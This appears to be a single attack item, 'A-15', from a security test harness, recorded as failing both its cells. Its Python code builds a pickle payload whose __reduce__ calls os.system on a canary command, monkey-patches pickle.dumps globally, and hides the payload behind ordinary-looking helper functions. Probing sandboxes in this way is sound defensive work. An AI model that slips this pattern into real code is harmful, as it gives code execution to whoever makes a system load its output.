# attack: A-15 Returns what would run a command when it is unpickled, and patches pickle itself.
# verdict: fails number (failed), array (failed)
# cell: number
import os
import pickle

class Bomb:
    def __reduce__(self): return os.system, ("touch @CANARY@",)

def total(values): return Bomb()

dump = pickle.dumps
pickle.dump = pickle.dumps = lambda *arguments, **keywords: dump(Bomb())
# cell: array
def scale(x, factor): return pickle.dumps(x)
